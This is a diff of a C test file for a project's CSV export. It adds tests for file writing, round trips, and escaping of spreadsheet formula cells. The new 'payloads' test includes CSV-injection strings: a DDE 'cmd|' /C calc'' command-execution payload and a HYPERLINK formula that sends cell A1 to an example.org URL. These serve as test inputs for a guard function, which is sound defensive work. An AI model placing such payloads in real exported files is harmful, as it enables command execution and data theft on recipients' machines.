@@ -1,9 +1,11 @@
 /* Copyright 2026 The Hupan authors
  * SPDX-License-Identifier: GPL-3.0-or-later */
 
+#include <fcntl.h>
 #include <glib/gstdio.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <unistd.h>
 
 #include "core/kinds/hupan-kinds.h"
 #include "exchange/hupan-csv-write.h"
@@ -13,6 +15,7 @@
 #include "exchange/hupan-sample.h"
 #include "fixtures/test-registry.h"
 #include "fixtures/test-shared.h"
+#include "reader/hupan-csv.h"
 
 static gint64
 add_note (HupanBatch      *batch,
@@ -143,21 +146,23 @@ test_file (void)
   g_autofree char *lost = g_build_filename (place->folder, "no-such-folder", "tags.csv", NULL);
   g_autofree char *text = NULL;
   g_autoptr (HupanFile) abandoned = NULL;
+  g_autoptr (GPtrArray) history = NULL;
   g_autoptr (GError) error = NULL;
+  guint n_exports = 0;
   GStatBuf st;
   gsize length;
 
   add_note (batch, &hupan_tag_kind, one);
   commit (registry, batch);
   g_file_set_contents (path, "before", -1, NULL);
-  hupan_export_to_file (registry, &hupan_tag_kind, path, NULL, HUPAN_EXPORT_CSV, NULL, &error);
+  hupan_export_to_file (registry, &hupan_tag_kind, NULL, NULL, 0, NULL, HUPAN_EXPORT_CSV, path, NULL, &error);
   g_assert_no_error (error);
   text = test_read (path, &length);
   g_assert_cmpstr (text, ==, "\xEF\xBB\xBFName,Candidates\r\none,0\r\n");
   g_assert_cmpint (g_stat (path, &st), ==, 0);
   g_assert_cmpint (st.st_mode & 0777, ==, 0600);
 
-  g_assert_false (hupan_export_to_file (registry, &hupan_tag_kind, lost, NULL, HUPAN_EXPORT_CSV, NULL, &error));
+  g_assert_false (hupan_export_to_file (registry, &hupan_tag_kind, NULL, NULL, 0, NULL, HUPAN_EXPORT_CSV, lost, NULL, &error));
   g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOENT);
   g_clear_error (&error);
 
@@ -170,7 +175,44 @@ test_file (void)
   text = test_read (path, &length);
   g_assert_cmpstr (text, ==, "\xEF\xBB\xBFName,Candidates\r\none,0\r\n");
   g_remove (path);
+
+  /* One of the two was finished, and that is noted. */
+  history = hupan_registry_history (registry, NULL, 0, 0, 0, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < history->len; i++)
+    n_exports += ((HupanHistoryEntry *) history->pdata[i])->note != NULL;
+  g_assert_cmpuint (n_exports, ==, 1);
+  g_assert_cmpstr (((HupanHistoryEntry *) history->pdata[0])->label, ==, "Export of Tags: 1 row to “tags.csv”");
   test_registry_close (registry);
+}
+
+/* What is no regular file does not lose its place to one, and what cannot be renamed is written where it is. */
+static void
+test_file_in_place (void)
+{
+  g_autofree char *pipe = g_build_filename (g_get_tmp_dir (), "pipe", NULL);
+  g_autofree char *folder = g_build_filename (g_get_tmp_dir (), "folder", NULL);
+  g_autoptr (GError) error = NULL;
+  g_autofd int reader = -1;
+  char bytes[16] = "";
+  GStatBuf st;
+
+  g_assert_cmpint (mkfifo (pipe, 0600), ==, 0);
+  reader = open (pipe, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+  hupan_file_write (pipe, "a,b\n", 4, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (read (reader, bytes, sizeof bytes), ==, 4);
+  g_assert_cmpstr (bytes, ==, "a,b\n");
+  g_assert_cmpint (g_stat (pipe, &st), ==, 0);
+  g_assert_true (S_ISFIFO (st.st_mode));
+
+  g_assert_false (hupan_file_write ("/dev/full", "a", 1, &error));
+  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOSPC);
+  g_clear_error (&error);
+
+  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
+  g_assert_false (hupan_file_write (folder, "a", 1, &error));
+  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_ISDIR);
 }
 
 /* What stands in the "name" and "notes" of all tags. */
@@ -208,6 +250,42 @@ assert_same (GHashTable *one,
     g_assert_cmpstr (value, ==, g_hash_table_lookup (other, key));
 }
 
+static gboolean
+collect_id_cb (gint64             id,
+               const char *const *values,
+               gpointer           data)
+{
+  g_hash_table_insert (data, g_strdup (values[0]), g_memdup2 (&id, sizeof id));
+  return TRUE;
+}
+
+/* The export of the tags "tag 0", "tag 1", … in this order: that of another registry, where ids differ. */
+static char *
+dup_in_order_of (HupanRegistry            *registry,
+                 char                    **strings,
+                 const HupanColumn *const *columns)
+{
+  static const char *const paths[] = { "name", NULL };
+  g_autoptr (GHashTable) found = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
+  g_autoptr (GArray) ids = g_array_new (FALSE, FALSE, sizeof (gint64));
+  g_autoptr (GError) error = NULL;
+  char *text;
+
+  hupan_registry_scan (registry, &hupan_tag_kind, paths, NULL, 0, NULL, collect_id_cb, found, NULL, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; strings[i] != NULL; i++)
+    {
+      g_autofree char *name = g_strdup_printf ("tag %u", i);
+
+      g_array_append_val (ids, *(gint64 *) g_hash_table_lookup (found, name));
+    }
+
+  text = hupan_export_dup_text (registry, &hupan_tag_kind, columns, (const gint64 *) ids->data, ids->len, NULL,
+                                HUPAN_EXPORT_CSV, NULL, &error);
+  g_assert_no_error (error);
+  return text;
+}
+
 /* Each string as the notes of a tag, from one registry to another through a CSV file. */
 static void
 assert_round_trip (char **strings)
@@ -225,6 +303,8 @@ assert_round_trip (char **strings)
   g_autoptr (HupanImport) import = NULL;
   g_autoptr (GHashTable) before = NULL;
   g_autoptr (GHashTable) after = NULL;
+  g_autofree char *text = NULL;
+  g_autofree char *again = NULL;
   g_autoptr (GError) error = NULL;
 
   for (guint i = 0; strings[i] != NULL; i++)
@@ -255,9 +335,40 @@ assert_round_trip (char **strings)
   before = collect (from);
   after = collect (to);
   assert_same (before, after);
+
+  /* And out again, byte for byte. */
+  text = dup_in_order_of (from, strings, columns);
+  again = dup_in_order_of (to, strings, columns);
+  g_assert_cmpstr (again, ==, text);
   g_remove (path);
   test_registry_close (from);
   test_registry_close (to);
+}
+
+/* F8: every way that a cell can begin to be a formula, in four forms each, as they stand in a file and as they come back. */
+static void
+test_payloads (void)
+{
+  static const char *const begins[] = { "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠" };
+  static const char *const ends[] = { "", "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://example.org/?\"&A1,\"x, y\")" };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (begins) * G_N_ELEMENTS (ends); i++)
+    {
+      g_autofree char *cell = g_strconcat (begins[i / G_N_ELEMENTS (ends)], ends[i % G_N_ELEMENTS (ends)], NULL);
+      g_autofree char *guarded = hupan_csv_guard (cell);
+      const char *const cells[] = { "first", guarded, "last" };
+      g_autoptr (GString) row = g_string_new (NULL);
+      g_autoptr (HupanCsv) csv = NULL;
+      g_autoptr (GError) error = NULL;
+
+      g_assert_cmpint (guarded[0], ==, '\'');
+      hupan_csv_append_row (row, cells, G_N_ELEMENTS (cells), ",");
+      csv = hupan_csv_parse (g_strdup (row->str), row->len, ",", hupan_import_limits_default (), NULL, &error);
+      g_assert_no_error (error);
+      g_assert_cmpuint (hupan_csv_get_n_rows (csv), ==, 1);
+      g_assert_cmpuint (hupan_csv_get_n_cells (csv, 0), ==, 3);
+      g_assert_cmpstr (hupan_csv_unguard (hupan_csv_get_cell (csv, 0, 1)), ==, cell);
+    }
 }
 
 static void
@@ -289,14 +400,25 @@ test_nasty_strings (void)
     "\xE2\x80\xA8 line", "=1+1", "@x", "+1", "-1", "\xEF\xBC\x9D" "1", "the end", NULL,
   };
   g_autoptr (GString) long_text = g_string_new (NULL);
-  g_autoptr (GPtrArray) all = g_ptr_array_new ();
+  g_autoptr (GPtrArray) all = g_ptr_array_new_null_terminated (512, g_free, TRUE);
 
   for (guint i = 0; i < 60000; i++)
     g_string_append_c (long_text, 'a' + i % 26);
+  g_ptr_array_add (all, g_strdup (long_text->str));
+
+  /* Each alone, in a sentence, twice in a row, above, before and after the next: five hundred. */
   for (guint i = 0; strings[i] != NULL; i++)
-    g_ptr_array_add (all, (gpointer) strings[i]);
-  g_ptr_array_add (all, long_text->str);
-  g_ptr_array_add (all, NULL);
+    {
+      const char *next = strings[i + 1] != NULL ? strings[i + 1] : "";
+
+      g_ptr_array_add (all, g_strdup (strings[i]));
+      g_ptr_array_add (all, g_strdup_printf ("He wrote %s there", strings[i]));
+      g_ptr_array_add (all, g_strconcat (strings[i], strings[i], NULL));
+      g_ptr_array_add (all, g_strconcat (strings[i], "\n", next, NULL));
+      g_ptr_array_add (all, g_strconcat (strings[i], ",", next, NULL));
+      g_ptr_array_add (all, g_strconcat ("'", next, ";", strings[i], NULL));
+    }
+  g_assert_cmpuint (all->len, >=, 500);
 
   assert_round_trip ((char **) all->pdata);
 }
@@ -319,7 +441,7 @@ test_sample (void)
       g_autoptr (HupanImport) import = NULL;
       g_autoptr (GError) error = NULL;
 
-      hupan_export_to_file (registry, kind, path, languages[i % G_N_ELEMENTS (languages)], HUPAN_EXPORT_CSV, NULL, &error);
+      hupan_export_to_file (registry, kind, NULL, NULL, 0, languages[i % G_N_ELEMENTS (languages)], HUPAN_EXPORT_CSV, path, NULL, &error);
       g_assert_no_error (error);
       import = hupan_import_read (path, kind, NULL, NULL, &error);
       g_assert_no_error (error);
@@ -344,6 +466,8 @@ main (int   argc,
   g_test_add_func ("/exchange/export/formats", test_formats);
   g_test_add_func ("/exchange/export/selection", test_selection);
   g_test_add_func ("/exchange/export/file", test_file);
+  g_test_add_func ("/exchange/export/file-in-place", test_file_in_place);
+  g_test_add_func ("/exchange/export/payloads", test_payloads);
   g_test_add_func ("/exchange/export/formulas", test_formulas);
   g_test_add_func ("/exchange/export/nasty-strings", test_nasty_strings);
   g_test_add_func ("/exchange/export/sample", test_sample);
